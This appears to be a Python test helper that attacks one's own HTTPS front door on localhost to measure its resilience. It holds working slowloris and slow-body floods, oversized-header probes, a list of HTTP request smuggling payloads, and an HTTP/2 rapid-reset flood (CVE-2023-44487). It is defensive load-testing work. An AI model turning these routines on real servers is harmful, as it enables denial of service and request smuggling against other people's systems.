"""What a hostile client may do to a front door, each as a function: how many connections, and what became of them.

Used by `loadtests/front_door.py`, which watches good clients meanwhile, and by the live tests. Only for a server of
one's own, on this machine.
"""

from __future__ import annotations

import contextlib
import select
import socket
import ssl
import struct
import threading
import time
from collections import Counter
from collections.abc import Iterator
from functools import cache

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 7, 8
END = b"\r\n\r\n"


class Target:
    """A front door on this machine, and a token that it takes."""

    def __init__(self, host: str, port: int, token: str) -> None:
        if not host.startswith("127."):
            raise ValueError(f"{host} is not this machine")
        self.host, self.port, self.token = host, port, token

    def connect(self, timeout: float = 10.0) -> socket.socket:
        return socket.create_connection((self.host, self.port), timeout)

    def tls(self, *protocols: str, timeout: float = 10.0) -> ssl.SSLSocket:
        return self.wrap(self.connect(timeout), *protocols)

    def wrap(self, connection: socket.socket, *protocols: str) -> ssl.SSLSocket:
        return _context(protocols).wrap_socket(connection)

    def head(self, path: str = "/predictions/echo", *more: str) -> bytes:
        """The head of a request, with its token, but for its end."""
        lines = [f"POST {path} HTTP/1.1", "Host: localhost", f"Authorization: Bearer {self.token}", *more]
        return "\r\n".join(lines).encode()

    def said(self, request: bytes, wait_s: float = 10.0) -> int | None:
        """The status of the answer to what is sent; nothing where the connection ends without one."""
        with self.tls(timeout=wait_s) as connection:
            try:
                connection.sendall(request)
                return status_of(connection)
            except (OSError, ValueError):
                return None


@cache
def _context(protocols: tuple[str, ...]) -> ssl.SSLContext:
    """One for all connections: a default one reads the machine's certificates, which takes longer than a handshake."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if protocols:
        context.set_alpn_protocols(list(protocols))
    return context


def status_of(connection: socket.socket) -> int | None:
    """The status in the next answer; nothing where the connection ends, or time is up."""
    try:
        start = connection.recv(4096)
    except OSError:
        return None
    return int(start.split(b" ", 2)[1]) if start.startswith(b"HTTP/1.1 ") else None


@contextlib.contextmanager
def idle(target: Target, count: int, *, tls: bool) -> Iterator[list[socket.socket]]:
    """Connections that send nothing."""
    held: list[socket.socket] = []
    try:
        for _ in range(count):
            with contextlib.suppress(OSError):  # one that is refused
                held.append(target.tls("http/1.1") if tls else target.connect())
        yield held
    finally:
        for one in held:
            one.close()


def idle_until_ended(target: Target, count: int, within_s: float, *, tls: bool) -> int:
    """How many of so many idle connections are ended by then."""
    with idle(target, count, tls=tls) as held:
        return ended(held, within_s)


def ended(connections: list[socket.socket], within_s: float) -> int:
    """How many of them the other side has ended by then."""
    deadline, left = time.monotonic() + within_s, list(connections)
    for one in left:
        one.settimeout(0)
    while left and time.monotonic() < deadline:
        left = [one for one in left if not _is_ended(one)]
        time.sleep(0.1)
    return len(connections) - len(left)


def _is_ended(connection: socket.socket) -> bool:
    try:
        return connection.recv(4096) == b""
    except (BlockingIOError, ssl.SSLWantReadError):
        return False
    except OSError:
        return True


def slowloris(target: Target, count: int, seconds: float) -> int:
    """Heads that come a byte at a time and never end; how many connections were ended for it."""
    with idle(target, count, tls=True) as held:
        deadline, alive = time.monotonic() + seconds, list(held)
        for one in alive:
            one.sendall(target.head() + b"\r\nx-slow: ")
        while alive and time.monotonic() < deadline:
            time.sleep(0.5)
            alive = [one for one in alive if _sends(one, b"a")]
        return count - len(alive)


def slow_bodies(target: Target, count: int, seconds: float) -> int:
    """Bodies that are promised and come a byte at a time; how many connections were ended for it."""
    with idle(target, count, tls=True) as held:
        for one in held:
            one.sendall(target.head("/predictions/echo", "Content-Length: 1000000") + END)
        deadline, alive = time.monotonic() + seconds, list(held)
        while alive and time.monotonic() < deadline:
            time.sleep(0.5)
            alive = [one for one in alive if _sends(one, b"a")]
        return count - len(alive)


def _sends(connection: socket.socket, data: bytes) -> bool:
    try:
        connection.settimeout(0)
        if connection.recv(4096) == b"":
            return False
    except (BlockingIOError, ssl.SSLWantReadError):
        pass
    except OSError:
        return False
    try:
        connection.sendall(data)
    except OSError:
        return False
    return True


def large_headers(target: Target) -> dict[str, int | None]:
    """Heads that are larger than they may be."""
    one = "x-large: " + "a" * 40_000
    many = [f"x-{i}: a" for i in range(200)]
    return {
        "one header of 40 KB": target.said(target.head("/predictions/echo", one, "Content-Length: 0") + END),
        "200 headers": target.said(target.head("/predictions/echo", *many, "Content-Length: 0") + END),
        "a path of 40 KB": target.said(target.head("/predictions/" + "a" * 40_000, "Content-Length: 0") + END),
    }


def smuggled(target: Target) -> dict[str, int | None]:
    """Requests of which two servers could see different ends, each with one for /models inside."""
    inner = b"GET /models HTTP/1.1\r\nHost: localhost\r\n\r\n"
    length = f"Content-Length: {len(inner) + 5}"
    tries = {
        "a length and chunks": [length, "Transfer-Encoding: chunked"],
        "two lengths": ["Content-Length: 5", length],
        "a length that is none": ["Content-Length: 5, 6"],
        "chunks that are none": ["Transfer-Encoding: xchunked"],
        "chunks twice": ["Transfer-Encoding: chunked", "Transfer-Encoding: identity"],
        "chunks with a blank": ["Transfer-Encoding : chunked", length],
        "a folded header": ["x-folded: a", " Transfer-Encoding: chunked", length],
        "a name with a line's end": ["x-a\rTransfer-Encoding: chunked", length],
    }
    inside = END + b"0\r\n\r\n" + inner
    found = {why: target.said(target.head("/predictions/echo", *lines) + inside) for why, lines in tries.items()}
    upgrade = ["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABk", "Content-Length: 2"]
    found["an upgrade to HTTP/2"] = target.said(target.head("/predictions/echo", *upgrade) + END + b"hi")
    return found


def rapid_resets(target: Target, streams: int) -> str:
    """Requests over HTTP/2 that are reset at once (CVE-2023-44487); how the connection ended."""
    with target.tls("h2") as connection:
        connection.sendall(PREFACE + _frame(SETTINGS, 0, 0, b""))
        headers = _request_headers("/predictions/echo", target.token)
        try:
            for i in range(streams):
                stream = 2 * i + 1
                reset = _frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                connection.sendall(_frame(HEADERS, 0x4, stream, headers) + reset)
            return _end_of(connection)
        except OSError:
            return "ended"


def _end_of(connection: ssl.SSLSocket) -> str:
    data = b""
    try:
        while part := connection.recv(65_536):
            data += part
    except OSError:
        return "ended"
    kinds: Counter[int] = Counter()
    while len(data) >= 9:  # noqa: PLR2004 (a frame's head)
        size, kind = int.from_bytes(data[:3], "big"), data[3]
        kinds[kind] += 1
        data = data[9 + size :]
    return "told to go away" if kinds[GOAWAY] else "ended"


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """RFC 9113, 4.1."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _request_headers(path: str, token: str = "", **more: str) -> bytes:
    """A POST's headers without compression: RFC 7541, 6.2.2."""
    fields = {":method": "POST", ":scheme": "https", ":path": path, ":authority": "localhost"}
    if token:
        fields["authorization"] = f"Bearer {token}"
    fields |= {name.replace("_", "-"): value for name, value in more.items()}
    return b"".join(b"\x00" + _text(name) + _text(value) for name, value in fields.items())


def _text(text: str) -> bytes:
    """A string that is shorter than 2^14 bytes: RFC 7541, 5.1 and 5.2."""
    data, small = text.encode(), 127
    if len(data) < small:
        return bytes([len(data)]) + data
    rest = len(data) - small
    return bytes([small, rest % 128 + 128, rest // 128]) + data


class Http2:
    """One connection over HTTP/2 on which many requests are sent at once, as slowly, largely or unread as wished.

    Headers of an answer are only counted, not read: `answered` has the streams that were answered, `reset` those that
    were reset with the code of the error (RFC 9113, 7).
    """

    def __init__(self, target: Target, unread_bytes: int | None = None) -> None:
        """`unread_bytes` is how much of each answer may come before it is read; it is never read."""
        self._socket = target.tls("h2", timeout=30)
        self._tls = threading.Lock()
        """OpenSSL's connections are not for two threads at a time: where one writes, the other finds an end."""
        self._target = target
        self._changed = threading.Condition()
        self._window, self._windows, self._first = 65_535, {}, 65_535
        self.answered: set[int] = set()
        self.reset: dict[int, int] = {}
        self.ended = False
        self.received = 0
        window = b"" if unread_bytes is None else struct.pack(">HI", 4, unread_bytes)
        self._socket.sendall(PREFACE + _frame(SETTINGS, 0, 0, window))
        self._socket.settimeout(0)
        threading.Thread(target=self._read, daemon=True).start()

    def request(self, path: str, *, token: bool = True, **headers: str) -> int:
        """Send a request's headers; its body follows with `send`. The stream."""
        stream = 2 * len(self._windows) + 1
        with self._changed:
            self._windows[stream] = self._first
        block = _request_headers(path, self._target.token if token else "", **headers)
        self._send(_frame(HEADERS, 0x4, stream, block))
        return stream

    def send(self, streams: list[int], size: int, within_s: float, *, end: bool = False) -> int:
        """Send so many bytes on each of the streams, in turns, as far as the server lets them; the bytes sent."""
        left = dict.fromkeys(streams, size)
        deadline, sent, chunk = time.monotonic() + within_s, 0, b"a" * 16_384
        while left and time.monotonic() < deadline and not self.ended:
            progress = False
            for stream in list(left):
                with self._changed:
                    count = min(len(chunk), self._window, self._windows[stream], left[stream])
                    if stream in self.answered or stream in self.reset:
                        del left[stream]
                        continue
                    self._window, self._windows[stream] = self._window - count, self._windows[stream] - count
                if count > 0:
                    left[stream] -= count
                    last = end and not left[stream]
                    if not self._send(_frame(DATA, 1 if last else 0, stream, chunk[:count])):
                        return sent
                    sent, progress = sent + count, True
                if not left[stream]:
                    del left[stream]
            if not progress:
                with self._changed:
                    self._changed.wait(0.1)
        return sent

    def write(self, stream: int, body: bytes) -> None:
        """A whole body, smaller than a frame and the windows."""
        self._send(_frame(DATA, 1, stream, body))

    def close(self) -> None:
        self._socket.close()

    def _send(self, data: bytes) -> bool:
        left = memoryview(data)
        while left and not self.ended:
            try:
                with self._tls:
                    left = left[self._socket.send(left) :]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                self._wait(select.POLLOUT)
            except (OSError, ValueError):
                self.ended = True
        return not self.ended

    def _receive(self) -> bytes:
        while True:
            try:
                with self._tls:
                    return self._socket.recv(65_536)
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                self._wait(select.POLLIN)

    def _wait(self, event: int) -> None:
        """Until the socket can be read or written, or has been closed; a tenth of a second at most."""
        waiting = select.poll()
        waiting.register(self._socket, event)
        waiting.poll(100)

    def _read(self) -> None:
        data = b""
        with contextlib.suppress(OSError, ValueError):
            while part := self._receive():
                data += part
                while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], "big"):  # noqa: PLR2004 (a frame's head)
                    size, kind, flags = int.from_bytes(data[:3], "big"), data[3], data[4]
                    stream, payload = int.from_bytes(data[5:9], "big") & 0x7FFFFFFF, data[9 : 9 + size]
                    data = data[9 + size :]
                    with self._changed:
                        self._take(kind, flags, stream, payload)
                        self._changed.notify_all()
        with self._changed:
            self.ended = True
            self._changed.notify_all()

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & 1:
            for i in range(0, len(payload), 6):
                name, value = struct.unpack_from(">HI", payload, i)
                if name == 4:  # noqa: PLR2004 (SETTINGS_INITIAL_WINDOW_SIZE)
                    self._windows = {one: left + value - self._first for one, left in self._windows.items()}
                    self._first = value
        elif kind == WINDOW_UPDATE and stream == 0:
            self._window += int.from_bytes(payload, "big")
        elif kind == WINDOW_UPDATE and stream in self._windows:
            self._windows[stream] += int.from_bytes(payload, "big")
        elif kind == RST_STREAM:
            self.reset[stream] = int.from_bytes(payload, "big")
        elif kind == HEADERS:
            self.answered.add(stream)
        elif kind == DATA:
            self.received += len(payload)
        elif kind == GOAWAY:
            self.ended = True
